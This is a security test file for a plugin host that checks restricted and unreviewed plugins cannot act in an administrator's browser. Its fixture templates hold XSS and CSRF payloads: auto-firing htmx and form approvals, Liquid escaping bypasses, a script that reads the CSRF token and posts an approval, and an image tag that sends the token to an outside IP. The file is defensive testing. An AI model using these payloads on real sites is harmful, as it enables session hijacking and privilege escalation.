import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { parsePolicy } from '@corral/manifest'
import { corralWat, wat2wasm } from '@corral/wasm-runner/testing'
import type { BrowserContext } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from './testing/chromium.js'
import { adminPassword, signInAt, startTestHost, type TestHost } from './testing/test-host.js'

// Plugins attack the administrator's session through what they add to the host's pages, in a real
// host and in Debian's chromium. `skin` is restricted (granted nothing of the everything it asks
// for): its templates try to approve it from the administrator's browser, by a script, by htmx
// attributes (inside <main>, where htmx sends the CSRF token) and by Liquid that writes unescaped.
// `lurker` is pending review: nothing it adds may show.

const approveSkin = '/admin/plugins/skin/decision'
const skinEvents = `{% layout 'layout' %}{% block content %}<h1 class="skin-title">Skinned for {{ user.username }}</h1>
<div hx-post="${approveSkin}" hx-vals='{"status":"approved"}' hx-trigger="load">htmx</div>
<div data-hx-post="${approveSkin}" data-hx-vals='{"status":"approved"}' data-hx-trigger="load">data-htmx</div>
<form method="post" action="${approveSkin}"><input name="status" value="approved"><button id="skin-go">Go</button></form>
<img src="https://203.0.113.7/steal?t={{ csrf }}" alt="pixel">
{% raw %}{{ "<script>window.skinRaw = 1</script>" }}{% endraw %}{{ "<script>window.skinFilter = 1</script>" | raw }}
{% cycle "<script>window.skinCycle = 1</script>", "b" %}<p style="color:red" onclick="x()">{{ "<b>escaped</b>" }}</p>
&#123;&#123; '${encodeURIComponent(`<div hx-post="${approveSkin}" hx-vals='{"status":"approved"}' hx-trigger="load">`)}' | url_decode | raw &#125;&#125;
{<x></x>{ '${encodeURIComponent('<form>')}' | url_decode | raw }<x></x>}
{% endblock %}`
// A Liquid tag inside an attribute, removing the quote and bracket that end it.
const skinAudit = `{% layout 'layout' %}{% block content %}<a title="{% if false %}">{% endif %}" hx-post="${approveSkin}" hx-vals='{"status":"approved"}' hx-trigger="load" <br>x</a>{% endblock %}`
const skinFooter = `<footer class="skin-footer">Skin<script>
const token = document.querySelector('input[name=_csrf]')?.value
fetch('${approveSkin}', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-csrf-token': token }, body: 'status=approved&_csrf=' + token })
</script></footer>`

/** A WASM plugin whose function `name` answers `value` as JSON. */
function answering(functions: Record<string, unknown>): string {
  let offset = 4096
  const body = Object.entries(functions).map(([name, value]) => {
    const bytes = Buffer.from(JSON.stringify(value))
    const hex = [...bytes].map((b) => `\\${b.toString(16).padStart(2, '0')}`).join('')
    const at = offset
    offset += bytes.length
    return `(data (i32.const ${at}) "${hex}")
      (func (export "${name}") (param i32 i32) (result i64) (call $pack (i32.const ${at}) (i32.const ${bytes.length})))`
  })
  return corralWat(body.join('\n'))
}

async function writePlugin(dir: string, manifest: object, wat: string): Promise<void> {
  await mkdir(dir, { recursive: true })
  await writeFile(path.join(dir, 'plugin.yaml'), JSON.stringify(manifest))
  await writeFile(path.join(dir, 'plugin.wasm'), await wat2wasm(wat))
}

let root: string
let host: TestHost
let chromium: Awaited<ReturnType<typeof launchChromium>> | undefined
let browser: BrowserContext
let admin: { cookie: string; csrf: string }

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'corral-plugin-markup-'))
  const pluginsDir = path.join(root, 'plugins')
  await writePlugin(
    path.join(pluginsDir, 'skin'),
    {
      name: 'skin',
      version: '0.1.0',
      runtime: 'wasm',
      entry: { wasm: 'plugin.wasm' },
      resources: { permissions: [{ type: 'db', access: ['read', 'write'], scope: ['*'] }] },
      provides: {
        routes: [
          { method: 'GET', path: '/page', handler: 'page' },
          { method: 'GET', path: '/script', handler: 'script' },
        ],
        templates: [
          { name: 'events', override: true, content: skinEvents },
          { name: 'footer', override: true, content: skinFooter },
          { name: 'audit', override: true, content: skinAudit },
        ],
      },
    },
    answering({
      page: { status: 200, headers: { 'Content-Type': 'Text/HTML' }, body: '<script>1</script>' },
      script: { status: 200, headers: { 'content-type': 'text/javascript' }, body: 'window.skinRoute = 1' },
    }),
  )
  await writePlugin(
    path.join(pluginsDir, 'lurker'),
    {
      name: 'lurker',
      version: '0.1.0',
      runtime: 'wasm',
      entry: { wasm: 'plugin.wasm' },
      provides: {
        widgets: [{ id: 'peek', title: 'Lurking', handler: 'peek' }],
        templates: [
          {
            name: 'jobs',
            override: true,
            content: `{% layout 'layout' %}{% block content %}<p class="lurker-page">lurking</p>{% endblock %}`,
          },
        ],
      },
    },
    answering({ peek: '<p class="lurker-widget">lurking</p>' }),
  )
  host = await startTestHost({
    plugins: [],
    approved: [],
    pluginsDir,
    policies: [parsePolicy({ plugin: 'skin', status: 'restricted', grants: [] })],
  })
  admin = await signInAt(host.url, 'admin', adminPassword)
  chromium = await launchChromium()
  browser = chromium.browser
}, 120_000)

afterAll(async () => {
  await chromium?.close()
  await host?.stop()
  await rm(root, { recursive: true, force: true })
})

const get = (url: string) =>
  fetch(`${host.url}${url}`, { headers: { cookie: admin.cookie, accept: 'text/html' } })

describe('what a plugin puts on the host’s pages', () => {
  it('cannot act in the administrator’s browser: the restricted plugin stays restricted', async () => {
    const page = await browser.newPage()
    const refused: string[] = []
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) refused.push(message.text())
    })
    await page.goto(`${host.url}/events`)
    await page.fill('input[name=username]', 'admin')
    await page.fill('input[name=password]', adminPassword)
    await Promise.all([page.waitForURL(/\/events$/), page.click('button[type=submit]')])
    // The page's scripts and htmx have had a second to act on load, on both pages.
    await page.waitForTimeout(1000)
    await page.goto(`${host.url}/admin/audit`)
    await page.waitForTimeout(1000)
    await page.goto(`${host.url}/events`)
    expect(host.manager.get('skin')?.policy?.status).toBe('restricted')
    expect((await host.manager.policies.get('skin')).status).toBe('restricted')
    // The plugin's own text is there, in the host's layout; none of its scripts ran.
    await expect(page.locator('h1.skin-title').textContent()).resolves.toBe('Skinned for admin')
    await expect(page.locator('footer.skin-footer').textContent()).resolves.toBe('Skin')
    const globals =
      '[typeof window.skinRaw, typeof window.skinFilter, typeof window.skinCycle, typeof window.htmx]'
    expect(await page.evaluate(globals)).toEqual(['undefined', 'undefined', 'undefined', 'object'])
    // Had the plugin a script of its own on the page, it could add scripts: one from the plugin's
    // route is served as text, which the browser does not run; an inline one breaks the page's policy.
    await page.evaluate(`new Promise((resolve) => {
      const script = document.createElement('script')
      script.src = '/plugins/skin/script'
      script.onload = script.onerror = resolve
      document.head.append(script)
    })`)
    await page.evaluate(`{
      const script = document.createElement('script')
      script.textContent = 'window.skinInline = 1'
      document.head.append(script)
    }`)
    const added = '[typeof window.skinRoute, typeof window.skinInline]'
    expect(await page.evaluate(added)).toEqual(['undefined', 'undefined'])
    expect(refused.length).toBeGreaterThan(0)
    await page.close()
  })

  it('keeps its text and structure, and loses scripts, forms, styles, handlers and htmx', async () => {
    const response = await get('/events')
    expect(response.headers.get('content-security-policy')).toContain("script-src 'self'")
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    const html = await response.text()
    expect(html).toContain('<h1 class="skin-title">Skinned for admin</h1>')
    expect(html).toContain('&lt;b&gt;escaped&lt;/b&gt;')
    for (const gone of [
      'hx-post="',
      'hx-trigger="',
      '<form>',
      '<form method="post" action="/admin/plugins/skin',
      'onclick',
      'style="color',
      'skinRaw',
      'skinFilter',
      'skinCycle',
      'fetch(',
    ])
      expect(html).not.toContain(gone)
    // The host's own scripts, forms and htmx attributes stay.
    expect(html).toContain('<script src="/static/htmx/htmx.min.js"></script>')
    expect(html).toContain('<form class="inline" method="post" action="/logout">')
    expect(html).toContain('hx-headers=')
  })

  it('serves a plugin’s answers in its sandbox, whatever their type, and never as a script', async () => {
    const page = await get('/plugins/skin/page')
    expect(page.headers.get('content-type')).toBe('Text/HTML')
    expect(page.headers.get('content-security-policy')).toContain("script-src 'none'")
    const script = await get('/plugins/skin/script')
    expect(script.headers.get('content-type')).toBe('text/plain; charset=utf-8')
    expect(script.headers.get('x-content-type-options')).toBe('nosniff')
    expect(script.headers.get('content-security-policy')).toContain('sandbox')
  })

  it('shows nothing of a plugin pending review', async () => {
    expect(host.manager.get('lurker')).toMatchObject({
      state: 'running',
      policy: { status: 'pending_review' },
    })
    const dashboard = await (await get('/dashboard')).text()
    expect(dashboard).toContain('id="widgets"')
    expect(dashboard).not.toContain('Lurking')
    expect(dashboard).not.toContain('lurker-widget')
    const jobs = await (await get('/admin/jobs')).text()
    expect(jobs).toContain('<title>')
    expect(jobs).not.toContain('lurker-page')
  })
})
